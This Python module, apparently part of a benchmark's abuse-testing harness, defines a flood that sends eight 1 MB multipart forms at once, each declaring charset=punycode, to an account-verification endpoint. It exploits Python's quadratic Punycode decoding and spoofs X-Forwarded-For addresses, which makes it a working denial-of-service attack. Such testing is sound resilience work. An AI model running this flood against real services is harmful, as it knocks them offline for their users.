"""A flood of forms that name a character set which is slow to decode."""

from collections import Counter
from collections.abc import Iterator

from bench.abuse.flooding import Flood, Stage, ask_again_and_again
from bench.abuse.tenants import random_address
from bench.http_client import HOST

_AT_ONCE = 8
_FORM_BYTES = 1_000_000
_BOUNDARY = "bench"


class Forms(Flood):
    """Python decodes Punycode in a time that grows with the square of the length: for such a form it takes a minute."""

    name = "forms"
    what = f"{_AT_ONCE} forms of 1 MB at once, with charset=punycode, to /console/account/verify"

    def prepare(self, stage: Stage) -> None:
        """Do nothing: this flood needs no account, since the service reads the form before it checks its token."""

    async def attack(self, port: int, answers: Counter[str]) -> None:
        await ask_again_and_again(port, _forms(answers), answers, times=_AT_ONCE)


def _forms(answers: Counter[str]) -> Iterator[bytes]:
    """Yield forms, each from another address, and count them, since the service may answer none while it is flooded."""
    field = f'--{_BOUNDARY}\r\nContent-Disposition: form-data; name="step"\r\n\r\n'.encode()
    body = field + b"a" * _FORM_BYTES + f"\r\n--{_BOUNDARY}--\r\n".encode()
    while True:
        head = (
            f"POST /console/account/verify HTTP/1.1\r\nHost: {HOST}\r\nX-Forwarded-For: {random_address()}\r\n"
            f"Content-Type: multipart/form-data; charset=punycode; boundary={_BOUNDARY}\r\n"
            f"Content-Length: {len(body)}\r\n\r\n"
        )
        answers["forms sent"] += 1
        yield head.encode() + body
